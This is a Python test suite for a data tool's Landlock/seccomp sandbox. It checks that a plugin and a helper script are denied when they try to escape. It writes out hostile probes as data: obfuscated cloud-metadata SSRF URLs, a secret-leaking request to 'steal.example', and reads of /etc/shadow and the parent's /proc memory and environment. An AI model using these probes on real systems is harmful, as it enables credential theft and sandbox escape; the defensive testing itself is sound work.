#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""The sandbox (RELIABILITY 3.4, P5): tests/plugins/escape.c tries to get out, from its constructor and from its run, at the newest Landlock, at
version 2 (Debian 12's own kernel) and with seccomp alone; a program tries; what a kernel without Landlock means. TAP on standard output."""
import os
import re
import shlex
import subprocess
import sys
import tempfile
from pathlib import Path

import support
from support import Answer

suite = support.Suite("sandbox")
if not support.SANDBOXED:
    suite.skip("the sandbox", "skipped: this build has none, and says so")
    site = suite.site("none")
    suite.true("check says that there is none", "none (" in site.glane("check", "--conf")[1])
    sys.exit(suite.finish())

FATAL = ["exec", "execveat", "ptrace", "process_vm_readv", "mount", "unshare", "chroot", "io_uring", "bpf", "vfork"]
METADATA = ["http://169.254.169.254/latest/", "http://2852039166/", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/",
            "http://[::ffff:169.254.169.254]/", "http://169.254.43518/"]
OTHERS = ["http://127.0.0.2:9/x", "http://localhost:9/x", "file:///etc/passwd", "http://[::1]:9/", "http://0.0.0.0:9/"]
READS = {"constructor: read a file", "constructor: list a folder"}  # seccomp alone cannot tell one file from another
target = Path("/tmp/glane-escape-target")
Path("/tmp/glane-escaped").unlink(missing_ok=True)  # of a build without a sandbox
GOOD = "dataset = D\nindicator = =I\narea = code\nperiod = year\nvalue = value\n"
server = support.Server({"/good.csv": Answer(b"code,year,value\nTGO,2020,1\n"), "/x": Answer(b"a,b\n1,2\n")})
server.__enter__()


def version():
    """The kernel's Landlock."""
    return int(re.search(r"landlock (\d+)", suite.site("version").glane("check", "--conf")[1] + "landlock 0")[1])


def lines(run, source):
    """name -> was it let through, of what the plugin said."""
    found = re.findall(rf"glane: {source}: (THROUGH|denied): (.*) \((\d+)\)", run.err)
    return {name: word == "THROUGH" for word, name, _ in found}


def escape(name, glane, level, allowed=frozenset()):
    secret = suite.folder / f"{name}.secret"
    secret.write_text("canary-in-the-file")
    secret.chmod(0o600)
    target.write_text("x")
    urls = " ".join(METADATA + OTHERS)
    store = suite.folder / name / "store"
    text = (f"[source good]\nplugin = csv\nbase_url = {server.url}\nfiles = good.csv\n{GOOD}"
            f"[source owner]\nplugin = csv\nbase_url = {server.url}\nfiles = good.csv?k={{auth:K}}\nauth = K=file:{secret}\n{GOOD}"
            f"[source escape]\nplugin = escape\nbase_url = {server.url}\nsecret = {secret}\nstore = {store}\nfetch = {urls}\nretries = 0\n")
    for how in FATAL:
        text += f"[source escape-{how.replace('_', '-')}]\nplugin = escape\nhow = {how}\nbase_url = {server.url}\n"
    site = suite.site(name, text, glane)
    site.run("good")
    run = site.run()
    made = lines(run, "escape")
    through = {n for n, t in made.items() if t}
    suite.true(f"{name}: {len(made)} attempts, all but {len(allowed)} denied", len(made) >= 60 and through == set(allowed), f"{through} {run}")
    for how in FATAL:
        s = run.sources[f"escape-{how.replace('_', '-')}"]
        suite.true(f"{name}: {how} ends the process", s["status"] == "failed" and "it tried what the sandbox forbids" in s["message"], s)
    suite.same(f"{name}: the report says {level}", run.report["sandbox"], level)
    suite.same(f"{name}: the good source stands", (run.verdicts["good"], run.verdicts["owner"]), ("unchanged", "ok"))
    suite.true(f"{name}: nothing was made or removed", target.exists() and not Path("/tmp/glane-escaped").exists() and not (store / "escaped").exists())
    suite.same(f"{name}: the store is whole", site.glane("check", "--store")[0], 0)
    suite.true(f"{name}: check says the level", f"sandbox        {level}\n" in site.glane("check", "--conf")[1])


newest = version()
suite.true("this kernel has Landlock", newest >= 1, newest) if newest else suite.skip("Landlock", "skipped: this kernel has none")
if newest:
    escape("newest", "", f"landlock {newest}, seccomp, limits")
    for most in (1, 2):
        if newest > most:
            escape(f"version-{most}", f"landlock = {most}\n", f"landlock {most}, seccomp, limits")
escape("seccomp", "sandbox = seccomp\n", "seccomp, limits", READS)

# ---- what a plugin says of itself permits neither local addresses nor http, and gets no secret; nor does the archive give what the network would not
def declared():
    other = support.Server({"/x": Answer(b"a,b\n1,2\n")})
    with other:
        port = other.url.rpartition(":")[2]
        hosts = [other.url, f"https://127.0.0.1:{port}", f"http://localhost:{port}", f"https://localhost:{port}", "http://169.254.169.254", "169.254.169.254",
                 "https://[::1]:9", "http://plain.example", "steal.example"]
        folder = suite.folder / "declared-plugins"
        folder.mkdir()
        flags = ["-fsanitize=address,undefined"] if "asan" in support.OUT.name else []
        done = subprocess.run([*shlex.split(os.environ.get("CC", "cc")), "-std=c11", "-D_GNU_SOURCE", "-fPIC", "-shared", f"-I{support.TOP}/core/include", *flags,
                               '-DNAME="declared"', f'-DBASE_URL="{other.url}"', "-DHOSTS=" + ",".join(f'"{h}"' for h in hosts), "-o", folder / "declared.so",
                               support.TOP / "tests/plugins/escape.c"], capture_output=True, text=True, check=False)
        suite.true("declared: the plugin is made", done.returncode == 0, done.stderr)
        (folder / "declared.so").chmod(0o755)
        secret = suite.folder / "declared.secret"
        secret.write_text("canary-of-the-declared")
        secret.chmod(0o600)
        mine, his = f"{server.url}/good.csv?k={{auth:K}}", f"{server.url}/good.csv"
        urls = ["{base_url}/x", *(f"{h if '://' in h else 'https://' + h}/x" for h in hosts[:-1]), "https://steal.example/x?k={auth:K}", mine, his]
        auth = f"auth = K=file:{secret}\nretries = 0\n"
        text = (f"[source owner]\nplugin = csv\nbase_url = {server.url}\nfiles = good.csv?k={{auth:K}}\n{auth}{GOOD}"
                f"[source declared]\nplugin = declared\nfetch = {' '.join(urls)}\n{auth}"
                f"[source beside]\nplugin = declared\nbase_url = {server.url}\nfetch = {mine} {his}\n{auth}")
        site = suite.site("declared", text)
        conf = site.conf.read_text()
        site.conf.write_text(conf.replace("plugin_path = ", f"plugin_path = {folder} ", 1))
        asked = len(server.log)
        run = site.run("owner", "declared")
        made = lines(run, "declared")
        through = [n for n, t in made.items() if t]
        suite.same("declared: nothing that only the plugin names is asked, but https elsewhere", (through, other.log, len(server.log) - asked), ([], [], 1))
        suite.true("declared: each is a security event", run.sources["declared"]["security_events"] == len(urls) - 1, run.sources["declared"])
        suite.true("declared: what to write is said", "write `hosts = https://steal.example:443`" in run.err, run)
        suite.same("declared: the owner of the secret has its data", run.verdicts["owner"], "ok")
        run = site.run("declared", "beside", "--offline")
        through = {(s, n) for s in ("declared", "beside") for n, t in lines(run, s).items() if t}
        suite.same("declared: nor is it given another source's answer offline", (through, len(lines(run, "beside"))), (set(), len(lines(run, "declared")) - len(urls) + 2))
        suite.same("declared: which its owner is", site.run("owner", "--offline").verdicts, {"owner": "unchanged"})
        code, out, err = site.glane("check", "--conf")
        suite.true("declared: check says that auth wants a host", code == 1 and "[source declared] has auth" in out + err and "[source beside] has" not in out + err, (code, out, err))


declared()

# ---- what the unit lets through must hold what the sandbox is made of, or every run under systemd ends with SIGSYS
unit = (support.TOP / "conf/systemd/glane.service").read_text()
calls = re.search(r"^SystemCallFilter=(.*)$", unit, re.M)[1].split()
suite.true("the unit allows the sandbox", {"@system-service", "seccomp", "landlock_create_ruleset", "landlock_add_rule", "landlock_restrict_self"} <= set(calls), calls)

# ---- no Landlock, none asked for
site = suite.site("without", f"[source good]\nplugin = csv\nbase_url = {server.url}\nfiles = good.csv\n{GOOD}", "landlock = 0\n")
run = site.run()
suite.true("without Landlock a run stops with exit 2 and names sandbox = seccomp", run.code == 2 and "sandbox = seccomp" in run.err, run)
suite.true("... and nothing was written", not site.store.exists() or not list(site.store.glob("stream/*")))
code, out, err = site.glane("parse", "csv", "--dataset=D", "--indicator==I", "--area=code", "--period=year", "--value=value", payload=b"code,year,value\nTGO,2020,1\n")
suite.true("parse stops as well", code == 2 and "sandbox = seccomp" in err, (code, err))
suite.same("what reads the store alone works", site.glane("status")[0], 0)
for words, why in [("sandbox = off", "neither require"), ("sandbox = none", "neither require"), ("landlock = x", "landlock = x: not a whole number")]:
    code, out, err = suite.site(f"bad {words}", "", words + "\n").glane("check", "--conf")
    suite.true(f"{words} is refused", code == 2 and why in err, (code, err))

# ---- a source's program
TRIES = """#!/usr/bin/env python3
import ctypes, os, resource, socket, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
def say(name, through): print(("THROUGH " if through else "denied ") + name, file=sys.stderr)
def tried(name, f):
    try:
        f()
    except (OSError, PermissionError) as e:
        return say(name, False)
    say(name, True)
def call(f, *a):
    if f(*a) < 0:
        raise OSError(ctypes.get_errno(), "")
secret, store = sys.argv[1:3]
tried("read the secret", lambda: open(secret).read())
tried("read /etc/shadow", lambda: open("/etc/shadow").read())
tried("list the home", lambda: os.listdir(os.path.expanduser("/root")))
tried("read the store", lambda: os.listdir(store))
tried("read its folder's neighbour", lambda: open(os.path.dirname(sys.argv[0]) + "/neighbour").read())
tried("make a file", lambda: open("/tmp/glane-escaped", "w"))
tried("remove a file", lambda: os.unlink("/tmp/glane-escape-target"))
tried("rename a file", lambda: os.rename("/tmp/glane-escape-target", "/tmp/glane-escape-target-2"))
tried("make a folder", lambda: os.mkdir("/tmp/glane-escaped"))
tried("chmod", lambda: os.chmod("/tmp/glane-escape-target", 0o777))
tried("truncate", lambda: os.truncate("/tmp/glane-escape-target", 0))
tried("a link", lambda: os.symlink("/etc/passwd", "/tmp/glane-escaped"))
tried("tcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM))
tried("udp", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))
tried("unix", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
tried("environment of its parent", lambda: open(f"/proc/{os.getppid()}/environ").read())
tried("memory of its parent", lambda: open(f"/proc/{os.getppid()}/mem", "rb+"))
tried("init's files", lambda: os.listdir("/proc/1/root/"))
tried("a program of its own", lambda: subprocess.run([os.path.dirname(sys.argv[0]) + "/neighbour"], check=True))
tried("cut itself off", lambda: os.close(os.open(sys.argv[0], os.O_RDONLY | os.O_TRUNC)))
tried("cut its input off", lambda: os.close(os.open("/proc/self/fd/0", os.O_RDONLY | os.O_TRUNC)))
tried("write to itself", lambda: os.close(os.open(sys.argv[0], os.O_RDWR)))
tried("write to its input", lambda: os.close(os.open("/proc/self/fd/0", os.O_RDWR)))
tried("a limit of its parent", lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, resource.prlimit(os.getppid(), resource.RLIMIT_CPU)))
tried("processors of its parent", lambda: os.sched_setaffinity(os.getppid(), os.sched_getaffinity(os.getppid())))
tried("policy of its parent", lambda: os.sched_setscheduler(os.getppid(), os.SCHED_OTHER, os.sched_param(0)))
tried("priority of its parent", lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), os.getpriority(os.PRIO_PROCESS, os.getppid())))
tried("priority of its group", lambda: os.setpriority(os.PRIO_PGRP, 0, os.getpriority(os.PRIO_PGRP, 0)))
print("denied unshare" if subprocess.run(["unshare", "-U", "true"], stderr=subprocess.PIPE).returncode else "THROUGH unshare", file=sys.stderr)
r = subprocess.run(["cat", "/dev/stdin"], capture_output=True)
say("its own input, by name", r.stdout == b"")
say("a system's program", subprocess.run(["true"]).returncode != 0)
"""
folder = suite.folder / "programs"
folder.mkdir()
(folder / "tries").write_text(TRIES)
(folder / "neighbour").write_text("#!/bin/sh\nexit 0\n")
secret = suite.folder / "program.secret"
secret.write_text("canary")
for f in folder.iterdir():
    f.chmod(0o755)


def tries(name, glane, reads=""):
    target.write_text("x")
    site = suite.site(name, f"[source good]\nplugin = csv\nbase_url = {server.url}\nfiles = good.csv\n{GOOD}"
                            f"[source program]\nplugin = csv\nbase_url = {server.url}\nfiles = good.csv\n{GOOD}program = {folder}/tries\n"
                            f"arguments = {secret} {suite.folder / name / 'store'}\n{reads}", glane)
    run = site.run()
    return {n: w == "THROUGH" for w, n in re.findall(r"glane: program: (THROUGH|denied) (.*)", run.err)}, run


SECCOMP_READS = {"read the secret", "read /etc/shadow", "list the home", "read the store", "read its folder's neighbour",
                 "init's files", "a program of its own"}
for name, glane, let in [("program", "", set()), ("program-2", "landlock = 2\n", set()),
                         ("program-seccomp", "sandbox = seccomp\n", SECCOMP_READS)]:
    if "seccomp" not in name and not newest:
        suite.skip(name, "skipped: this kernel has no Landlock")
        continue
    made, run = tries(name, glane)
    through = {n for n, t in made.items() if t}
    suite.true(f"{name}: {len(made)} attempts, let through: {len(let)} at most", len(made) == 31 and through <= let, f"{through} {run}")
    suite.same(f"{name}: the file that was to go is there", target.read_text(), "x")
made, run = tries("program-reads", "", f"program_reads = {folder}\n")
suite.same("program_reads lets a folder be read", made.get("read its folder's neighbour"), True) if newest else None
for p in (target, Path("/tmp/glane-escaped")):
    p.unlink(missing_ok=True)
server.__exit__(None, None, None)
sys.exit(suite.finish())
